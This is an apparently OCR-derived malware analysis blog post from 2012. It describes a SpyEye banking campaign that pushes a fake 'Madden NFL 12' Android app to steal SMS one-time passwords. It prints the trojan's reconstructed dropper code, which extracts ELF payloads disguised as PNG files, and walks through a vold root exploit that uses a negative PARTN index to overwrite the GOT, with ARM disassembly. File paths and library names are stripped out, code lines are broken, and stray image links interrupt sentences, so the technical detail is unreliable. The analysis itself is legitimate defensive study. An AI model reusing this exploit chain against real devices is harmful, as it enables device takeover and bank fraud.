Monday, 23 January 2012

The Butterfly Effect of a Boundary Check

In chaos theory, a hurricane formation might be contingent on whether or not a distant butterfly had flapped its wings. In the digital world, one might wonder how a source code update with a boundary check added can invoke an online bank robbery. Well, here is the story.

The SpyEye banking trojan with the incorporated features of ZeuS (via the source codeacquisition) has been making rounds for a while now. While its form-grabbing, code-injection, keylogging capabilities are well studied, it still keeps evolving and adopting itself to the new realities, to the new security measures that the banks are putting in place. It adapts due to the need to survive in an environment that is becoming more and more hostile for it.

In a nutshell, SpyEye, as well as ZeuS, is a banking trojan that is designed to intercept (steal) the authentication details, deliver them to a remote server where these details are collected, stored, and then wrapped up and resold on the underground markets. Someone eventually acquires the SpyEye/Zeus logs and then parses thecompromised account details, one-by-one. For every online banking account, the attacker will try to log on by using anonymous proxies or other compromised systems in order to stay out of sight, and then wire the funds to so-called "drop" accounts (temporary accounts created for a short period of time to launder thestolen funds).

In some way, this multi-stage bank robbery model has become conventional for SpyEye/ZeuS. Nevertheless, it is easily disrupted with the two-factor authentication schemes that are becoming more and more popular in online banking. In one particular scenario, whenever a customer is willing to transfer the money to a newly added beneficiary, the bank will generate a temporary password, and then send that password to the customer's mobile phone in the form of an SMS message. The customer reads the message, fills out the online form field with the receivedpassword, and then clicks Next.

Done. Transaction is authorised.

In case of a compromised account, the remote attacker will possess the login credentials and thus, would be able to log on, view the infected victim's balance, the history of the recent transactions, and even pay the bills on behalf of existing beneficiaries that were authorised previously. However, the remote attacker would be unable to initiate a bogus transaction on behalf of a newly added "drop" account, as that attempt would require two-factor authentication. Without having access to the password contained in the SMS message, any bogus transaction from a compromised account would essentially be blocked.

Logically, this issue makes the attacker be willing to put his hands onto the password received via SMS as soon as possible - while it's still valid. Even better, highjack it so that it never reaches the victim. Otherwise, the received SMS may alert the owner of the compromised account. In order to highjack it, the attacker would need to compromise the customer's phone as well.

As reported by S21sec, the new SpyEye campaign that targets Spanish banks realises the aforementioned attack scenario. Upon trying to visit an online banking site, the compromised user will face a bogus web page that will offer to install an application for the mobile phone - in order to "secure communications", that is.

As you may have guessed, the suggested mobile app is malicious - let's analyse the application offered for Android platform. While the password interception mechanism contained within SMS is not new (ZeuS does it for several months now), let's inspect what other tricks are hidden up the SpyEye's sleeve.

Why Android?

As stated by Nielsen, in 2011 Q3 the smartphone ownership has reached 43% of all U.S. mobile subscribers. According to Gartner, Android platform composesnow 43% of all smartphone sales in 2011 Q2. That roughly means that every fifth online banking customer who relies on SMS-based two-factor authentication scheme will own an Android device (97% of them still running Android Gingerbread, Froyo, and below). For the attacker, it means that the malicious Android app has fairly good odds. In fact, considering iPhone's tight security ecosystem, Androidprovides the best odds for the attacker and thus, the highest return-on-investment ratio for developing and deploying an Androidapp that could do such thing.

The dropper "Madden NFL 12"

Malicious Android app suggested by a bogus web page may disguise itself under a security application. In one reported case however, the malicious Android app is called "Madden NFL 12" - a trojan that disguises itself under the popular American football video game.

The package name is - no hiding here, an honest self-assessment of being a bot.

Once invoked, its main activity AndroidBotActivity will perform the following actions:

  • Create directory /data/data/ with theread/write/execute rights for all

  • Extract 3 files from its own assets and drop them as:

    • /data/data/ (ELF executable)

    • /data/data/ (ELF executable)

    • /data/data/ (Android app - an APK file)

  • Run the first executable header01.png

  • Show up a "toast" message:
    (0x14) Error - Not registred application.

These steps are seen in the reconstructed source code of the trojan:

ShellCommand.CommandResult localCommandResult1 ="mkdir /data/data/ && chmod 777 /data/data/");
boolean bool1 = new File("/data/data/").delete();
boolean bool2 = new File("/data/data/").delete();
boolean bool3 = new File("/data/data/").delete();
boolean bool4 = new File("/data/data/").delete();
boolean bool5 = new File("/data/data/").delete();
boolean bool6 = new File("/data/data/").delete();
ExtractAsset("header01.png", "/data/data/");ExtractAsset("footer01.png", "/data/data/");
ExtractAsset("border01.png", "/data/data/");
ShellCommand.CommandResult localCommandResult2 ="chmod 777 /data/data/");
ShellCommand.CommandResult localCommandResult3 ="/data/data/");
Toast.makeText(getApplicationContext(), "(0x14) Error - Not registred application.", 0).show();

ELF executable header01.png

Despite the extension name, header01.png file is an ELF executable compiled for ARM CPU. Hopefully, IDA Pro disassembler handles it quite perfectly.

This executable relies on an exploit within Android's vold (volume daemon) - a program that automatically mounts CD-Roms, USB-Memory Sticks, and other removable media.

Being an open platform, Android's source code and its modifications are fully transparent.

On April 19, 2011, the DirectVolume.cpp (one of the vold's source files) was updated with an extra boundary check added for mPartMinors[].Updates like this inevitably draw attention - the part_num > MAX_PARTITIONS boundary check was already present in the code, the only added boundary check this time was part_num < 1.

What is part_num, how it was used in the code before the update, and why the extra check was added?

part_num is an integer variable that is obtained from the string parameter PARTN passed within the Netlink event message - an argument for the handlePartitionAdded() function, as shown below in the vold's source file DirectVolume.cpp:

void DirectVolume::handlePartitionAdded(const char *devpath,
NetlinkEvent *evt)
// obtain "MINOR" parameter from the event message, assign to int minor
int minor = atoi(evt->findParam("MINOR"));
int part_num;

// obtain "PARTN" string parameter from the event message
const char *tmp = evt->findParam("PARTN");
if (tmp)
// convert it to int, assign to part_num
part_num = atoi(tmp);
SLOGW("Kernel block uevent missing 'PARTN'");
part_num = 1;
// make sure part_num does not exceed the maximum limit
if (part_num >= MAX_PARTITIONS)
SLOGE("Dv:partAdd: ignoring part_num = %d (max: %d)\n",
// use part_num as an index to referenece mPartMinors[],
// store there the value of minor
mPartMinors[part_num -1] = minor;

The only boundary check in the code above is part_num >= MAX_PARTITIONS. Next, part_num is used to reference an element of the array mPartMinors[]. That is, the code assumes that part_num is always more than or equalto 1. However, in case of a negative value passed for the PARTN parameter, the code will reference the memory located below the mPartMinors[] base pointer - that referenced memory (whatever is stored at that location) will be overwritten with the value contained in the variable minor - that value is also passed with the Netlink event message, only by using a different parameter - MINOR.

By specifying a negative index value for the mPartMinors[] array, it is possible for the attacker to reference and overwrite the memory that belongs to the GOT (Global Offset Table) within the image of the vold executable. The GOT table stores offsets of the imported APIs - such as strcmp(), atoi() and other APIs that vold executable imports from other libraries such as,, After patching one of those offsets with an offset of an API function system() imported from the C library, vold executable would now call system() API instead of the intended one. If the parameter passed to the patched API was a malicious executable file path, vold would call system("path_to_malicious_executable") API, effectively launching an external executable with the same root privileges as the vold process itself.

This "theoretical" possibility materialised pretty quickly. TheDirectVolume.cpp update was noticed by Sebastian Krahmer, Swiss researcher, who published the proof-of-concept code at his blog two days later, on April 21, 2011.

As it always happened before, it was now a matter of time until the published exploit was incorporated into the malware.

The aforementioned function handlePartitionAdded() is only invoked within vold process whenever a hotplug event occurs (such as connection/disconnection of CD-ROM, USB-Memory Sticks, and other removable media). When that happens, the netlink daemon that listens to the netlink socket (this socket is used as a communication between the kernel and user space) receives a packet of data for such event. The transferred data represents itself a set of null terminated text lines where every line contains a PARAMETER=VALUE pair defining a hotplug event parameters. For a normal hotplug event, the message parameters are always valid and PARTN is always 1 or more. However, the malicious process header01.png opens up the netlink socket and sends there the malformed event messages directly in order to fake the hotplug events.

The malformed netlink event messages sent by header01.png via the netlink socket will invoke the vold's handlePartitionAdded() function above. The trojan has to construct a netlink event (NetlinkEvent *evt) message with the malformed parameters PARTN (this must be a negative number that references vold's GOT offsets) and MINOR (this parameter must contain the offset of the APIsystem()). The PARTN and MINOR values have to be calculated dynamically with a 100% precision. The trojan does that in the following steps.

It opens up the file /proc/net/netlink and reads the contents of that file:

.text:00009A1C LDR R3, =(aNetlink - _GLOBAL_OFFSET_TABLE_) ; "/proc/net/netlink"
.text:00009A20 LDR R2, [R11,#var_828]
.text:00009A24 ADD R3, R2, R3
.text:00009A28 MOV R0, R3 ; filename
.text:00009A2C LDR R3, =(aR - _GLOBAL_OFFSET_TABLE_) ; "r"
.text:00009A30 LDR R1, [R11,#var_828]
.text:00009A34 ADDR3, R1, R3
.text:00009A38 MOV R1, R3
.text:00009A3C BL fopen ; open "netlink" for read

The contents of /proc/net/netlink file enlists running processes, e.g. its content might look like:

sk Eth Pid Groups Rmem Wmem Dump Locks
c4cc6800 15 69 ffffffff 0 0 (null) 2
c5979a00 15 26 ffffffff 0 0 (null) 2
c5b99e00 15 29 ffffffff 0 0 (null) 2

The process list does not contain process names - only process IDs specified in the 3rd column (Pid). So the trojan parses every line and retrieves the 3rd parameter - the process ID.

For every process ID %PID%, it constructs a string /proc/%PID%/cmdline.

It opens and reads a file with a name that is the string above - this will return the process name; for example, reading a file /proc/29/cmdline might return /system/bin/netd string - this string is a process name for the process with the ID of 29:

.text:00009B7C LDR R3, =(aCmdline - _GLOBAL_OFFSET_TABLE_) ; "/proc/%d/cmdline"
.text:00009B80 LDR R2, [R11,#var_828]
.text:00009B84 ADD R3, R2, R3
.text:00009B88 MOV R1, R3 ; format
.text:00009B8C LDR R2, [R11,#var_818]
.text:00009B90 BL sprintf ; construct string "/proc/%PID%/cmdline"
.text:00009B94 SUB R3, R11, #-var_800
.text:00009B98 SUB R3, R3, #0xC
.text:00009B9C SUB R3, R3, #4
.text:00009BA0 MOV R0, R3 ; file
.text:00009BA4 MOV R1, #0 ; oflag
.text:00009BA8 BL open ; open file "/proc/%PID%/cmdline"

Next it checks if the returned string (the name of the process) is /system/bin/vold:.text:00009C14 LDR R3, =(aSystemBinVold - _GLOBAL_OFFSET_TABLE_) ; "/system/bin/vold"
.text:00009C18 LDR R1, [R11,#var_828]
.text:00009C1C ADD R3, R1, R3
.text:00009C20 MOV R1, R3
.text:00009C24 BL strstr ; compare the returned string with "/system/bin/vold"

Once the process name /system/bin/vold is found, the process ID of vold daemon will now be known.

The code locates the offset of the system() API by opening the library with dlopen(), then obtaining the offset with dlsym(). This is similar to LoadLibrary(), GetProcAddress() call sequence used in x86 malware.

.text:00009260 LDR R3, =(aLibcSo -_GLOBAL_OFFSET_TABLE_) ; "/system/libc/"
.text:00009264 LDR R2, [R11,#var_1C]
.text:00009268 ADD R3, R2, R3
.text:0000926C MOV R0, R3 ; file
.text:00009270 MOV R1, #0 ; mode
.text:00009274 BL dlopen ; open the library "/system/libc/"
.text:00009278 MOV R3, R0
.text:0000927C STR R3, [R11,#handle]
.text:00009280 LDR R3, [R11,#handle]
.text:00009284 CMP R3, #0
.text:00009288 BNE libc_handle_ok
.text:0000928C LDR R3, =(aDlopen - _GLOBAL_OFFSET_TABLE_) ; "[-] dlopen"
.text:00009290 LDR R2, [R11,#var_1C]
.text:00009294 ADD R3, R2, R3
.text:00009298 MOV R0, R3
.text:0000929C BL die ; libc handle is 0 - quit
.text:000092A0 libc_handle_ok:
.text:000092A0 LDR R0, [R11,#handle] ; load handle
.text:000092A4 LDR R1, [R11,#name] ; load symbol name (passed as a parameter)
.text:000092A8 BL dlsym ; obtain the address of the symbol ("system")

Next, the trojan opens up the file /system/bin/vold and parses its ELF structure to retrieve the start and the end of the vold's GOT table.Following that, it lookups the names of the mounted devices by parsing vold's fstab file - a system configuration that enlists all available disks and disk partitions. This configuration resides either in /etc/vold.fstab or system/etc/vold.fstab. For example, the contents of this file might look like:

## Format: dev_mount <label> <mount_point> <part> <sysfs_path1...>
## label - Label for the volume
## mount_point - Where the volume will be mounted
## part - Partition # (1 based), or 'auto' for first usable partition.
## <sysfs_path> - List of sysfs paths to source devices
dev_mount sdcard /mnt/sdcard auto /devices/platform/msm_sdcc.2/mmc_host/mmc1

